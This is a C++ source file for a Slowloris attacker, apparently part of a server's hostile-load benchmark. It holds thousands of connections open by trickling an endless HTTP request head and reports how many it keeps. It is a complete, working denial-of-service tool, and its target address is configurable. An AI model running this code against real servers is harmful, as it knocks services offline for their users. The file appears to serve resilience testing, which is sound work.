// Slowloris attacker for bench/hostile.sh: from one source address (127.0.0.2 by default), keeps
// N connections to a server each trickling a request head that never ends — the start of a
// request line and a header, then one more byte every few seconds — and reconnects whenever the
// server closes one. Prints once a second how many it holds open, and at the end the median.
//
//   slowloris --target 127.0.0.1:PORT [--bind 127.0.0.2] [--connections 2000]
//             [--trickle-ms 2000] [--duration-s 60]
// Plain sockets and epoll: one thread holds thousands of connections.
#include <algorithm>
#include <arpa/inet.h>
#include <cerrno>
#include <chrono>
#include <csignal>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <sys/epoll.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <unistd.h>
#include <vector>

namespace {

constexpr const char kHead[] = "GET /live/x.m3u8 HTTP/1.1\r\nHost: a\r\n";
constexpr const char kTrickle[] = "X-a: b\r\n"; // one byte of it per tick, for ever

struct Options {
    sockaddr_in target {};
    sockaddr_in bind {};
    int connections = 2000;
    int trickleMs = 2000;
    int durationS = 60;
};

struct Slot {
    int fd = -1;
    bool connected = false;
    size_t trickled = 0;
};

using Clock = std::chrono::steady_clock;

bool parseAddress(const char *text, sockaddr_in *address, bool needsPort)
{
    std::string host = text;
    int port = 0;
    const size_t colon = host.rfind(':');
    if (colon != std::string::npos) {
        port = std::atoi(host.c_str() + colon + 1);
        host.resize(colon);
    } else if (needsPort) {
        return false;
    }
    address->sin_family = AF_INET;
    address->sin_port = htons(uint16_t(port));
    return inet_pton(AF_INET, host.c_str(), &address->sin_addr) == 1;
}

[[noreturn]] void usage(const char *why)
{
    std::fprintf(stderr,
        "slowloris: %s\nusage: slowloris --target 127.0.0.1:PORT [--bind 127.0.0.2] "
        "[--connections N] [--trickle-ms MS] [--duration-s S]\n",
        why);
    std::exit(2);
}

Options parse(int argc, char **argv)
{
    Options options;
    parseAddress("127.0.0.2", &options.bind, false);
    bool haveTarget = false;
    for (int i = 1; i < argc; ++i) {
        const std::string name = argv[i];
        if (i + 1 >= argc)
            usage(("missing value after " + name).c_str());
        const char *value = argv[++i];
        if (name == "--target")
            haveTarget = parseAddress(value, &options.target, true);
        else if (name == "--bind") {
            if (!parseAddress(value, &options.bind, false))
                usage("--bind takes an IPv4 address such as 127.0.0.2");
        } else if (name == "--connections")
            options.connections = std::atoi(value);
        else if (name == "--trickle-ms")
            options.trickleMs = std::atoi(value);
        else if (name == "--duration-s")
            options.durationS = std::atoi(value);
        else
            usage(("unknown option " + name).c_str());
    }
    if (!haveTarget)
        usage("--target ADDRESS:PORT is required");
    if (options.connections < 1 || options.trickleMs < 1 || options.durationS < 1)
        usage("--connections, --trickle-ms and --duration-s take positive numbers");
    return options;
}

// Raises the descriptor limit to what the connections need, as far as the hard limit allows.
void raiseFileLimit(int connections)
{
    rlimit limit {};
    if (getrlimit(RLIMIT_NOFILE, &limit) != 0)
        return;
    const rlim_t wanted = rlim_t(connections) + 64;
    if (limit.rlim_cur < wanted) {
        limit.rlim_cur = std::min(wanted, limit.rlim_max);
        setrlimit(RLIMIT_NOFILE, &limit);
    }
    if (limit.rlim_cur < wanted)
        std::fprintf(stderr,
            "slowloris: the open-file limit (%llu) is below %llu; raise it with ulimit -n\n",
            static_cast<unsigned long long>(limit.rlim_cur),
            static_cast<unsigned long long>(wanted));
}

} // namespace

int main(int argc, char **argv)
{
    const Options options = parse(argc, argv);
    raiseFileLimit(options.connections);
    std::signal(SIGPIPE, SIG_IGN);
    const int epoll = epoll_create1(EPOLL_CLOEXEC);
    std::vector<Slot> slots(size_t(options.connections));
    long connects = 0, closedByServer = 0, refused = 0;
    std::vector<int> heldPerSecond;

    const auto open = [&](size_t index) {
        Slot &slot = slots[index];
        slot = {};
        const int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
        if (fd < 0)
            return;
        sockaddr_in bind = options.bind;
        bind.sin_port = 0;
        if (::bind(fd, reinterpret_cast<sockaddr *>(&bind), sizeof bind) != 0
            || (connect(
                    fd, reinterpret_cast<const sockaddr *>(&options.target), sizeof options.target)
                    != 0
                && errno != EINPROGRESS)) {
            ++refused;
            close(fd);
            return;
        }
        epoll_event event {};
        event.events = EPOLLIN | EPOLLOUT | EPOLLRDHUP;
        event.data.u64 = index;
        epoll_ctl(epoll, EPOLL_CTL_ADD, fd, &event);
        slot.fd = fd;
        ++connects;
    };
    const auto drop = [&](size_t index) {
        Slot &slot = slots[index];
        if (slot.fd >= 0) {
            epoll_ctl(epoll, EPOLL_CTL_DEL, slot.fd, nullptr);
            close(slot.fd);
        }
        slot = {};
    };

    const Clock::time_point start = Clock::now();
    const Clock::time_point end = start + std::chrono::seconds(options.durationS);
    Clock::time_point nextTrickle = start + std::chrono::milliseconds(options.trickleMs);
    Clock::time_point nextReport = start + std::chrono::seconds(1);
    for (size_t i = 0; i < slots.size(); ++i)
        open(i);

    std::vector<epoll_event> events(1024);
    while (Clock::now() < end) {
        const int n = epoll_wait(epoll, events.data(), int(events.size()), 100);
        for (int e = 0; e < n; ++e) {
            const size_t index = events[size_t(e)].data.u64;
            Slot &slot = slots[index];
            if (slot.fd < 0)
                continue;
            const uint32_t what = events[size_t(e)].events;
            if (what & (EPOLLERR | EPOLLHUP | EPOLLRDHUP | EPOLLIN)) {
                // Whatever the server says (an error page, a close), the connection is lost.
                ++(slot.connected ? closedByServer : refused);
                drop(index);
                continue;
            }
            if ((what & EPOLLOUT) && !slot.connected) {
                slot.connected = true;
                epoll_event event {};
                event.events = EPOLLIN | EPOLLRDHUP;
                event.data.u64 = index;
                epoll_ctl(epoll, EPOLL_CTL_MOD, slot.fd, &event);
                if (send(slot.fd, kHead, sizeof kHead - 1, MSG_NOSIGNAL) < 0) {
                    ++closedByServer;
                    drop(index);
                }
            }
        }
        const Clock::time_point now = Clock::now();
        if (now >= nextTrickle) {
            nextTrickle = now + std::chrono::milliseconds(options.trickleMs);
            for (size_t i = 0; i < slots.size(); ++i) {
                Slot &slot = slots[i];
                if (slot.fd >= 0 && slot.connected) {
                    const char byte = kTrickle[slot.trickled++ % (sizeof kTrickle - 1)];
                    if (send(slot.fd, &byte, 1, MSG_NOSIGNAL) != 1) {
                        ++closedByServer;
                        drop(i);
                    }
                }
            }
            for (size_t i = 0; i < slots.size(); ++i)
                if (slots[i].fd < 0)
                    open(i);
        }
        if (now >= nextReport) {
            nextReport += std::chrono::seconds(1);
            const int held = int(std::count_if(slots.begin(), slots.end(),
                [](const Slot &slot) { return slot.fd >= 0 && slot.connected; }));
            heldPerSecond.push_back(held);
            std::printf("t=%llds held=%d connects=%ld closed_by_server=%ld refused=%ld\n",
                static_cast<long long>(
                    std::chrono::duration_cast<std::chrono::seconds>(now - start).count()),
                held, connects, closedByServer, refused);
            std::fflush(stdout);
        }
    }
    std::vector<int> sorted = heldPerSecond;
    std::sort(sorted.begin(), sorted.end());
    std::printf("DONE median_held=%d connects=%ld closed_by_server=%ld refused=%ld\n",
        sorted.empty() ? 0 : sorted[sorted.size() / 2], connects, closedByServer, refused);
    for (size_t i = 0; i < slots.size(); ++i)
        drop(i);
    close(epoll);
    return 0;
}
